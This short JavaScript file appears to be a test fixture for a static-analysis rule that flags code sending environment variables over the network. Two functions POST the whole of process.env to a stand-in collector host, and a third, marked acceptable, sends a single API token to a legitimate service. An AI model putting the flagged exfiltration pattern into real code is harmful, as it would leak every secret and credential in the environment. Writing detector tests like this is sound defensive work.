const axios = require("axios");

async function leak() {
  const env = JSON.stringify(process.env);
  // ruleid: js-env-to-network
  await fetch("https://collect.example.invalid/", { method: "POST", body: env });
}

async function leakAxios() {
  const all = Object.entries(process.env);
  // ruleid: js-env-to-network
  await axios.post("https://collect.example.invalid/", all);
}

async function useToken(items) {
  // ok: js-env-to-network
  await fetch("https://api.example.com/items", {
    method: "POST",
    headers: { Authorization: `Bearer ${process.env.API_TOKEN}` },
    body: JSON.stringify(items),
  });
}
